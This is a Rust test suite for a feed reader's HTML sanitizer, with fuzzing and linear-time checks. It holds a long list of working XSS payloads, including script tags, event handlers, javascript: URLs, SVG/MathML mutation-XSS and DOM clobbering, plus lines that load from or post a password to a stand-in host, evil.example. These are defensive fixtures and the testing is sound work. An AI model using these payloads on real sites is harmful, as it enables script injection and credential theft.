//! Attacks on the sanitizer, and content that must survive it.
//!
//! Every output is checked three times: by a structural check on the tree that html5ever builds from it, by ammonia
//! (which must find nothing to change), and by the sanitizer itself (which must not change anything either).

use super::*;
use crate::growth::assert_linear;
use proptest::prelude::*;
use std::collections::{HashMap, HashSet};
use std::sync::OnceLock;

const BASE: &str = "http://example.org/blog/post";

fn clean_html(html: &str) -> String {
    sanitize(html, Some(&BASE.parse().unwrap()), &Limits::default())
}

fn check(html: &str, expected: &str) {
    assert_eq!(clean_html(html), expected, "{html}");
}

/// Returns ammonia, configured to allow exactly what we write.
fn ammonia() -> &'static ammonia::Builder<'static> {
    static BUILDER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    BUILDER.get_or_init(|| {
        let own = |element: &policy::Element| match element.name {
            "a" => vec!["href"],
            "img" => vec!["src", "srcset"],
            _ => vec![],
        };
        let elements = || policy::ELEMENTS.iter().chain(formula::ELEMENTS);
        let attributes = elements().map(|element| {
            let names =
                element.attributes.iter().map(|attribute| attribute.name).chain(own(element));
            (element.name, names.collect::<HashSet<_>>())
        });
        let mut builder = ammonia::Builder::empty();
        builder
            .tags(elements().map(|element| element.name).collect())
            .tag_attributes(attributes.collect::<HashMap<_, _>>())
            .generic_attributes(["dir", "lang", "id"].into())
            .url_schemes(["http", "https", "mailto"].into())
            .url_relative(ammonia::UrlRelative::Custom(Box::new(within)))
            .link_rel(Some(REL));
        builder
    })
}

/// Allows relative links only to places in the same text.
fn within(url: &str) -> Option<std::borrow::Cow<'_, str>> {
    url.starts_with("#fn-").then(|| url.into())
}

/// Panics if a parsed output contains anything that may run or load something it must not.
fn assert_inert(html: &str) {
    let document = dom_query::Document::fragment(html);
    for node in document.root().descendants_it().filter(|node| node.is_element()) {
        let name = node.node_name().unwrap().to_string();
        let is_in_formula = formula::allowed(&name).is_some();
        assert!(
            policy::allowed(&name).is_some_and(|element| element.name == name)
                || is_in_formula
                || name == "html",
            "<{name}> in {html}"
        );
        for attribute in node.attrs() {
            let (key, value) = (attribute.name.local.to_string(), attribute.value.to_string());
            assert!(!key.starts_with("on"), "{key} in {html}");
            let is_forbidden =
                ["style", "class", "name", "srcdoc", "ping", "target", "download", "action"]
                    .contains(&key.as_str());
            assert!(!is_forbidden, "{key} in {html}");
            assert!(key != "id" || local::is_id(&value), "{value} in {html}");
            if key == "href" && value.starts_with("#fn-") {
                assert!(html.contains(&format!(" id=\"{}\"", &value[1..])), "{value} in {html}");
                continue;
            }
            if ["href", "src", "cite", "poster"].contains(&key.as_str()) {
                let scheme = Url::parse(&value).unwrap().scheme().to_owned();
                assert!(
                    ["http", "https", "mailto"].contains(&scheme.as_str()),
                    "{value} in {html}"
                );
            }
        }
    }
}

/// Asserts everything that must hold for the output of any input.
fn assert_safe(html: &str) {
    assert_safe_within(html, &Limits::default());
}

fn assert_safe_within(html: &str, limits: &Limits) {
    let clean_html = |html: &str| sanitize(html, Some(&BASE.parse().unwrap()), limits);
    let clean = clean_html(html);
    assert!(clean.len() <= limits.content_bytes);
    assert!(verify::is_clean(&clean), "not in the grammar: {clean}\nfrom {html}");
    assert_inert(&clean);
    assert_eq!(clean_html(&clean), clean, "not a fixpoint, from {html}");
    assert_eq!(
        ammonia().clean(&clean).to_string(),
        clean,
        "ammonia reads it differently, from {html}"
    );
}

/// Ways to run scripts, load resources, break out or impersonate, grouped by the idea behind them.
pub(super) const VECTORS: &[&str] = &[
    // Script elements, whole and broken apart.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script <b>>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "</p><!--<p title=\"--><img src=x onerror=alert(1)>\">",
    // Event handlers in any spelling.
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x alt=\"`onerror=alert(1)//`\">",
    "<p title=x&#12;onmouseover=alert(1)>form feed</p>",
    "<p title=x\u{c}onmouseover=alert(1)>form feed</p>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<xss style=animation-name:x onanimationstart=alert(1)></xss>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    // Addresses that are programs.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java&#10;script&colon;alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"blob:http://x/y\">x</a>",
    "<a href=\"view-source:http://x/\">x</a>",
    "<a href=\"javascript://example.org/%0Aalert(1)\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
    "<img src=\"http:a<script>alert(1)</script>\" srcset=\"http:a<script>alert(1)</script> 1x\">",
    "<img srcset=\"javascript:alert(1) 1x, http://evil.example/x 2x\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img data-src=\"javascript:alert(1)\">",
    // Foreign content, where trees change when parsed again.
    "<svg><a><set attributeName=href to=javascript:alert(1)></set><text y=30>x</text></a></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x\"></use></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><title><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><iframe/src=javascript:alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mi href=\"javascript:alert(1)\" xlink:href=\"javascript:alert(1)\" onclick=alert(1)>x</mi></math>",
    "<math><maction actiontype=\"statusline#http://evil.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math><mtext><p><style><a title=\"</style></math><img src onerror=alert(1)>\"></mtext></math>",
    "<math><mtext></form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></math>",
    "<math><mi><table><mi><style></mi></table></style><img src=x onerror=alert(1)></math>",
    "<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='alert(1)'>\"></math>",
    "<math><mspace width=\"99999em\" style=\"position:fixed\"/><mpadded voffset=\"-999em\">x</mpadded></math>",
    "<math><mrow style=\"position:fixed;inset:0\" class=modal><mo>x</mo></mrow></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    // Frames and plug-ins.
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript://www.youtube.com/%0Aalert(1)\"></iframe>",
    "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
    "<iframe src=\"https://www.youtube.com@evil.example/\"></iframe>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    // The page around the article.
    "<base href=\"http://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<style>@import 'http://evil.example/x.css';body{display:none}</style>",
    "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh\">overlay</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"background-image:url(http://evil.example/leak)\">x</p>",
    "<form action=\"http://evil.example/\"><input name=password type=password><button>Log in</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<img src=x id=csrf name=body>",
    "<div id=app class='modal show' name=createElement>clobbering</div>",
    "<a id=config><a id=config name=token href=cid:x>clobbering</a>",
    "<a href=\"http://a/\" onclick=alert(1) ping=\"http://evil.example/\" target=_blank download>x</a>",
    "</div></article></main></body></html><h1>escaped the container</h1>",
    "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %> #{7*7}",
    // Text that only looks like markup.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60script&#62alert(1)&#60/script&#62",
    // Addresses on our own server.
    "<a href=\"//evil.example/phish\" target=_blank>x</a>",
    "<a href=\"/api/feeds/1?_method=delete\">x</a>",
    "<a href=\"?action=logout\">x</a>",
    "<img src=\"/api/feeds/refresh\">",
];

/// Elements that change how parsers read what is inside or after them.
const WRAPPERS: &[&str] = &[
    "svg",
    "math",
    "table",
    "tr",
    "td",
    "caption",
    "select",
    "option",
    "template",
    "noscript",
    "p",
    "a",
    "b",
    "li",
    "dd",
    "h1",
    "pre",
    "title",
    "textarea",
    "style",
    "xmp",
    "ruby",
    "rt",
    "audio",
    "video",
    "picture",
    "figure",
    "details",
    "form",
    "button",
    "object",
    "mtext",
    "mi",
    "mo",
    "mrow",
    "mfenced",
    "msup",
    "mtable",
    "mtd",
    "mspace",
    "mglyph",
    "semantics",
    "annotation-xml",
    "foreignObject",
    "desc",
    "colgroup",
    "tbody",
    "nobr",
    "font",
    "center",
    "div",
    "ul",
    "dl",
    "blockquote",
];

#[test]
fn no_vector_survives_alone_or_wrapped() {
    for vector in VECTORS {
        assert_safe(vector);
        for wrapper in WRAPPERS {
            assert_safe(&format!("<{wrapper}>{vector}</{wrapper}>after"));
            assert_safe(&format!("<{wrapper}>{vector}"));
        }
    }
}

#[test]
fn ordinary_markup_survives() {
    check(
        "<a href=\"https://ok.example/\">link</a> <b>bold</b> <img src=\"https://ok.example/i.png\" alt=\"ok\"> <pre><code>&lt;script&gt;</code></pre>",
        "<a href=\"https://ok.example/\" rel=\"noopener noreferrer nofollow\">link</a> <b>bold</b> \
         <img src=\"https://ok.example/i.png\" alt=\"ok\" loading=\"lazy\" decoding=\"async\"> <pre><code>&lt;script&gt;</code></pre>",
    );
    check("<p>one<p>two<ul><li>a<li>b</ul>", "<p>one</p><p>two</p><ul><li>a</li><li>b</li></ul>");
    check(
        "<table><tr><td>1<td>2<tr><th colspan=2>3</table>",
        "<table><tbody><tr><td>1</td><td>2</td></tr><tr><th colspan=\"2\">3</th></tr></tbody></table>",
    );
    check(
        "<figure><img src=a.png width=640 height=480px><figcaption>c</figcaption></figure>",
        "<figure><img src=\"http://example.org/blog/a.png\" width=\"640\" height=\"480\" loading=\"lazy\" decoding=\"async\"><figcaption>c</figcaption></figure>",
    );
    check(
        "<blockquote cite=/src>q</blockquote><time datetime=2026-11-15>t</time>",
        "<blockquote cite=\"http://example.org/src\">q</blockquote><time datetime=\"2026-11-15\">t</time>",
    );
    check(
        "x<sup><a href='#fn1' id=r1>1</a></sup>",
        "x<sup><a href=\"http://example.org/blog/post#fn1\" rel=\"noopener noreferrer nofollow\">1</a></sup>",
    );
    check(
        "<video controls autoplay><source src=v.mp4 type=video/mp4></video>",
        "<video controls=\"\" preload=\"none\"><source src=\"http://example.org/blog/v.mp4\" type=\"video/mp4\"></video>",
    );
    check("<p dir=RTL lang=he onclick=x>שלום</p>", "<p dir=\"rtl\" lang=\"he\">שלום</p>");
    check(
        "<center>a</center><tt>b</tt><strike>c</strike><font color=red>d</font>",
        "<div>a</div><code>b</code><s>c</s>d",
    );
    check("AT&T &copy 2024 &hellip; 1 < 2&nbsp;km", "AT&amp;T © 2024 … 1 &lt; 2&nbsp;km");
    check(
        "<math alttext='\\frac{x}{2}'></math>, <table><tr><th scope=col>h<td scope=col></table><ol type=i start=3 reversed>",
        "<code>\\frac{x}{2}</code>, <table><tbody><tr><th scope=\"col\">h</th><td></td></tr></tbody></table><ol start=\"3\" reversed=\"\" type=\"i\"></ol>",
    );
    check(
        "<math><mi>x</mi><annotation>TeX</annotation></math> and <svg><text>no</text></svg>y",
        "<math><mi>x</mi></math> and y",
    );
    check("<pre>\n\n  code\n</pre>", "<pre>  code\n</pre>");
    check("<![CDATA[<p>wrapped twice</p>]]>", "<p>wrapped twice</p>");
    check("<![CDATA[<p>wrapped twice</p>]]&gt;", "<p>wrapped twice</p>");
    check("<code>&lt;![CDATA[x]]&gt;</code>", "<code>&lt;![CDATA[x]]&gt;</code>");
}

#[test]
fn formulas_keep_what_shows_and_nothing_else() {
    check(
        "<math xmlns='http://www.w3.org/1998/Math/MathML' display='block' alttext='x^2' class=a id=b style='c'>\n \
         <semantics><mrow><msup><mi mathvariant='normal' href='javascript:x' onclick='x'>x</mi><mn>2</mn></msup>\n \
         <mo stretchy=false lspace=9em>&lt;</mo><mspace width='0.5em'/><mspace width='99em'/></mrow>\
         <annotation encoding='application/x-tex'>x^2 &lt;</annotation></semantics></math>",
        "<math display=\"block\"><mrow><msup><mi mathvariant=\"normal\">x</mi><mn>2</mn></msup>\
         <mo stretchy=\"false\">&lt;</mo><mspace width=\"0.5em\"></mspace><mspace></mspace></mrow></math>",
    );
    check(
        "<math><mfenced open='['><mi>a</mi></mfenced><mfenced><mi>b</mi></mfenced></math>",
        "<math><mrow><mo>[</mo><mi>a</mi><mo>)</mo></mrow><mrow><mo>(</mo><mi>b</mi><mo>)</mo></mrow></math>",
    );
    check(
        "<math><mtable><mtr><mtd columnspan=2><mn>1</mtd></mtr></mtable></math>",
        "<math><mtable><mtr><mtd columnspan=\"2\"><mn>1</mn></mtd></mtr></mtable></math>",
    );
    check("<math>loose<mi>x</mi></math>", "<math><mtext>loose</mtext><mi>x</mi></math>");
    check("<math><mi>x<b>y</b><mn>z</mn></math>", "<math><mi>xyz</mi></math>");
    check("<p>a <math><mi>x</mi> <p>b</p>", "<p>a <math><mi>x</mi></math></p><p>b</p>");
    check(
        "<math><mi>x</mi><img src=/a.png alt=y></math>",
        "<math><mi>x</mi></math><img src=\"http://example.org/a.png\" alt=\"y\" loading=\"lazy\" decoding=\"async\">",
    );
    check("<math><mi/><mrow/></math><mi>x</mi>", "x");
    check(
        "<table><math><mi>x</mi></math></table>",
        "<table><tbody><tr><td><math><mi>x</mi></math></td></tr></tbody></table>",
    );
    let deep = format!("<math>{}<mi>x</mi></math>", "<mrow>".repeat(1000));
    assert_eq!(clean_html(&deep).matches("<mrow>").count(), 32);
    assert_safe(&deep);
}

#[test]
fn footnotes_and_back_links_stay_within_the_text() {
    let link = |to: &str, text: &str| {
        format!("<a href=\"#fn-{to}\" rel=\"noopener noreferrer nofollow\">{text}</a>")
    };
    check(
        "x<sup id='fnref:1'><a href='#fn:1' class=footnote>1</a></sup><ol><li id='fn:1'><p>n <a href='#fnref:1'>b</a></ol>",
        &format!(
            "x<sup id=\"fn-fnref:1\">{}</sup><ol><li id=\"fn-fn:1\"><p>n {}</p></li></ol>",
            link("fn:1", "1"),
            link("fnref:1", "b")
        ),
    );
    check(
        "<a href='/blog/post#c'>c</a><a name=c>C</a><span id=d>D</span>",
        &format!("{}<span id=\"fn-c\"></span>CD", link("c", "c")),
    );
    check(
        "<h2 id='caf\u{e9}'>x</h2><a href='#caf%C3%A9'>y</a><h3 id='caf\u{e9}'>twice</h3>",
        &format!("<h2 id=\"fn-caf.c3.a9\">x</h2>{}<h3>twice</h3>", link("caf.c3.a9", "y")),
    );
}

#[test]
fn a_link_without_target_leads_to_the_original_page() {
    let out =
        "<a href=\"http://example.org/blog/post#x\" rel=\"noopener noreferrer nofollow\">a</a>";
    check("<a href='#x'>a</a><select><p>y</p></select>", &format!("{out}<p>y</p>"));
    check("<a href='#x'>a</a><svg><g id=x></svg>", out);
    check("<a href='#x'>a</a><form id=x></form>", out);
    check("<p id=x>nobody leads here", "<p>nobody leads here</p>");
    check("<a href='#x'>a</a><script id=x></script>", out);
}

#[test]
fn misnesting_is_mended() {
    check("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b>c");
    check("<b>a<p>b</b>c</p>d", "<b>a<p>bc</p></b>d");
    check("</div></p>text</b>", "text");
    check(
        "<a href=http://a/>x<a href=http://b/>y",
        "<a href=\"http://a/\" rel=\"noopener noreferrer nofollow\">x</a><a href=\"http://b/\" rel=\"noopener noreferrer nofollow\">y</a>",
    );
    check(
        "<table>loose<tr>row<td>cell</table>",
        "<table><tbody><tr><td>loose</td></tr><tr><td>row</td><td>cell</td></tr></tbody></table>",
    );
    check("<td>no table</td>", "no table");
    check("<h1>a<h2>b</h1>c", "<h1>a</h1><h2>b</h2>c");
    check("<h1><i><h1></i><h1>x", "<h1><i><h1></h1></i></h1><h1>x</h1>");
    check("<ruby><dt></ruby><rt>x", "<ruby><dt></dt></ruby>x");
    check("<pre>\u{0}\nx", "<pre>x</pre>");
    check("<ruby>漢<rt>kan<rt>x</ruby><rt>y", "<ruby>漢<rt>kan</rt><rt>x</rt></ruby>y");
}

#[test]
fn lazy_images_are_resolved_and_tracking_pixels_dropped() {
    let img = |src: &str| {
        format!("<img src=\"http://example.org/{src}\" loading=\"lazy\" decoding=\"async\">")
    };
    check("<img src='data:image/gif;base64,R0' data-src=/real.jpg>", &img("real.jpg"));
    check("<img class=lazy data-original=/real.jpg>", &img("real.jpg"));
    check(
        "<img data-srcset='/s.jpg 320w, /l.jpg 640w'>",
        "<img src=\"http://example.org/s.jpg\" srcset=\"http://example.org/s.jpg 320w, http://example.org/l.jpg 640w\" loading=\"lazy\" decoding=\"async\">",
    );
    check("<img data-lazy-src=/a.jpg><noscript><img src=/a.jpg></noscript>", &img("a.jpg"));
    check("<img src=data:,x><noscript><img src=/a.jpg></noscript>", &img("a.jpg"));
    check("<picture><source srcset=/p.webp><img src=data:,x></picture>", &img("p.webp"));
    check("<picture><source srcset=/p.webp><img src=/p.jpg></picture>", &img("p.jpg"));
    for gone in [
        "<img src=/pixel.gif width=1 height=1>",
        "<img src=/x.gif width=0 height=0>",
        "<img src=/x.gif style='display: none'>",
        "<img src=/x.gif style='width:1px;height:1px'>",
        "<img src=http://feeds.feedburner.com/~r/blog/~4/x>",
        "<img src=https://pixel.wp.com/b.gif?x>",
        "<link rel=prefetch href=/x>",
        "<img src=https://counter.theconversation.com/content/1/count.gif>",
        "<img src=https://stats.example.org/matomo.php?idsite=1>",
        "<img src=/x.gif hidden>",
    ] {
        check(gone, "");
    }
    check("<img src=/notdoubleclick.net/x.png>", &img("notdoubleclick.net/x.png"));
}

#[test]
fn frames_become_links() {
    let link = |url: &str, text: &str| {
        format!("<a href=\"{url}\" rel=\"noopener noreferrer nofollow\">{text}</a>")
    };
    check(
        "<iframe src=https://www.youtube.com/embed/x title='A &lt;film&gt;'></iframe>",
        &format!("<p>{}</p>", link("https://www.youtube.com/embed/x", "A &lt;film&gt;")),
    );
    let film = "https://www.youtube.com/watch?v=dQw4w9WgXcQ";
    check(
        "<p>a<iframe src='//www.youtube-nocookie.com/embed/dQw4w9WgXcQ?x' title='A &lt;film&gt;'><p>no</p></iframe>b",
        &format!("<p>a</p><figure>{}</figure>b", link(film, "A &lt;film&gt;")),
    );
    check(
        "<iframe src='https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ'></iframe>",
        &format!(
            "<p>{}</p>",
            link("https://evil.example/embed/dQw4w9WgXcQ", "evil.example/embed/dQw4w9WgXcQ")
        ),
    );
    check(
        "<p>see <iframe src=//player.vimeo.com/1></iframe></p>",
        &format!("<p>see {}</p>", link("http://player.vimeo.com/1", "player.vimeo.com/1")),
    );
    check(
        "<object data=/f.pdf>fallback</object>",
        &format!("<p>{}</p>fallback", link("http://example.org/f.pdf", "example.org/f.pdf")),
    );
    check("<iframe></iframe><iframe src=javascript:x></iframe>", "");
    let map = |text: &str| format!("<p>{}</p>", link("https://map.example/1", text));
    for (fallback, text) in [
        ("<b>See</b> the map", "See the map"),
        ("Your browser does not support iframes.", "map.example/1"),
        ("Loading\u{2026}", "map.example/1"),
        (" ", "map.example/1"),
    ] {
        check(&format!("<iframe src=https://map.example/1>{fallback}</iframe>"), &map(text));
    }
}

#[test]
fn an_embed_is_linked_only_if_browsers_can_open_it() {
    for (embed, is_linked) in [
        ("<embed src=/a.pdf>", true),
        ("<embed src=/a type='application/pdf'>", true),
        ("<embed src=/a.mp3>", true),
        ("<embed src=https://www.youtube.com/embed/dQw4w9WgXcQ>", true),
        ("<embed src=/player.swf>", false),
        ("<embed src=/player type=application/x-shockwave-flash>", false),
        ("<embed src=http://example.com/>", false),
    ] {
        assert_eq!(clean_html(embed).contains("<a href="), is_linked, "{embed}");
    }
}

#[test]
fn the_title_of_a_drawing_stands_for_it() {
    check(
        "a<svg width=9><title>A &lt;tree&gt;</title><path d=x><text>no</text></svg>b",
        "aA &lt;tree&gt;b",
    );
    check("a<svg><g><title>no</title></g><title>no</title></svg>b", "ab");
    check("<title>no</title><svg></svg><title>no</title>", "");
}

#[test]
fn without_a_base_no_link_points_at_our_own_server() {
    let limits = Limits::default();
    for html in [
        "<a href=/logout>x</a>",
        "<a href='?a'>x</a>",
        "<a href=//evil.example/>x</a>",
        "<a href='#top'>x</a>",
    ] {
        assert_eq!(sanitize(html, None, &limits), "x", "{html}");
    }
    assert_eq!(sanitize("<img src=/x.png alt=x>", None, &limits), "");
}

#[test]
fn output_fits_the_limit_and_stays_well_formed() {
    let limits = Limits { content_bytes: 100, ..Limits::default() };
    for html in [
        "<p>x".repeat(100),
        "é&<>\"".repeat(100),
        "<b>".repeat(100),
        format!("<div><p>{}", "word ".repeat(100)),
    ] {
        let clean = sanitize(&html, None, &limits);
        assert!(clean.len() <= 100 && clean.len() > 50, "{clean}");
        assert_eq!(sanitize(&clean, None, &limits), clean);
        assert_eq!(ammonia().clean(&clean).to_string(), clean);
    }
}

#[test]
fn articles_are_sanitized_once() {
    let mut article = article();
    article.content = Content::Raw { html: "<p onclick=x>y <a href=z>z</a>".into(), base: None };
    article.link = Some("https://example.org/a/b".into());
    clean(&mut article, &Limits::default());
    let expected =
        "<p>y <a href=\"https://example.org/a/z\" rel=\"noopener noreferrer nofollow\">z</a></p>";
    assert_eq!(article.content, Content::Clean(expected.into()));
}

#[test]
fn hostile_input_takes_linear_time() {
    for pattern in [
        "<div>",
        "<ul><li>",
        "<b>",
        "<table><tr><td>",
        "<a href=http://a/>",
        "<p><table>",
        "<svg>",
        "<select>",
        "<noscript>",
        "</p>",
        "<p a=1 ",
        "&amp;",
        "&",
        "&#",
        "<",
        "<!--",
        "<a href='",
        "<b><p></b>",
        "<p><b><div></b>",
        "<ruby><rt>",
        "<img src=http://a/ srcset='",
        "]]>",
        "<img srcset=",
        "\u{0}",
        "<h1><b>",
        "<dd><dt>",
        "<i><a href=http://a/><table><td>",
        "<a href='#x' id=x>",
        "<a href='#x'><span id=x>",
        "<p id=x><select><a href='#x'>",
        "<math>",
        "<math><mrow>",
        "<math><mfenced>",
        "<math><mi>x</math>",
        "<math><annotation>",
        "<!-->",
        "<!-- >",
        "<iframe>",
        "<iframe src=http://a/>",
    ] {
        let make = |bytes: usize| pattern.repeat(bytes / pattern.len());
        assert_linear(pattern, 32 << 10, make, |html| {
            assert!(clean_html(html).len() <= Limits::default().content_bytes);
        });
    }
    let attributes = format!("<p {}>x", "a=1 ".repeat(200_000));
    assert_eq!(clean_html(&attributes), "<p>x</p>");
}

// A quick sample; after a change to the nesting rules, a hundred times as many are worth the minutes they take.
const CASES: u32 = 1_000;
const PIECES: usize = 40;

/// Generates pieces of vectors and tags, in any order.
fn mangled() -> impl Strategy<Value = String> {
    let tags = proptest::sample::select(WRAPPERS).prop_flat_map(|name| {
        proptest::sample::select(vec![
            format!("<{name}>"),
            format!("</{name}>"),
            format!("<{name} title=\"x\" href=http://a/ src=b>"),
        ])
    });
    let more = proptest::sample::select(vec![
        "<a href='#x'>",
        "<a href='#y'>",
        "<p id=x>",
        "<li id=y>",
        "<a name=x>",
        "<span id=y>",
        "<sup id=x><a href='#y'>",
        "<h2 id=x>",
        "<math alttext=x>",
        "<math>",
        "<math><mi>x</mi></math>",
        "<mi/>",
        "</math>",
        "<mo>",
        "<annotation>",
        "<th scope=row id=y>",
        "<iframe src=//www.youtube.com/embed/dQw4w9WgXcQ>",
        "text",
        " ",
        "\n",
        "&",
        "&lt;",
        "&#13;",
        "\u{a0}",
        "<!--",
        "-->",
        "\"",
        "<img src=x>",
        "<br>",
        "<hr>",
        "<th>",
        "<ol>",
        "<rp>",
        "<i>",
        "</i>",
        "<source src=x>",
        "<h2>",
        "</h2>",
        "<dt>",
        "<iframe src=//a/>",
        "</iframe>",
        "\r",
        "\u{0}",
        "<em>",
        "</em>",
        "<summary>",
    ]);
    let vector = proptest::sample::select(VECTORS).prop_flat_map(|vector| {
        (0..=vector.len(), 0..=vector.len()).prop_map(move |(a, b)| {
            let (a, b) =
                (vector.floor_char_boundary(a.min(b)), vector.floor_char_boundary(a.max(b)));
            vector[a..b].to_owned()
        })
    });
    let piece = prop_oneof![4 => tags, 3 => more.prop_map(str::to_owned), 1 => vector];
    proptest::collection::vec(piece, 0..PIECES).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: CASES, ..ProptestConfig::default() })]

    #[test]
    fn any_mixture_is_safe_and_stable(html in mangled()) {
        assert_safe(&html);
    }

    #[test]
    fn small_limits_are_safe_and_stable(html in mangled(), html_depth in 0..8_usize, content_bytes in 0..300_usize) {
        assert_safe_within(&html, &Limits { html_depth, content_bytes, ..Limits::default() });
    }
}

fn article() -> Article {
    Article {
        keys: tidings_model::ArticleKeys {
            guid: None,
            guid_path: None,
            link: None,
            title: None,
            content: None,
        },
        version: tidings_model::Fingerprint(0),
        guid: None,
        title: String::new(),
        link: None,
        comments: None,
        n_comments: None,
        authors: vec![],
        published: None,
        updated: None,
        summary: String::new(),
        content: Content::Known,
        language: None,
        tags: vec![],
        enclosures: vec![],
        image: None,
    }
}
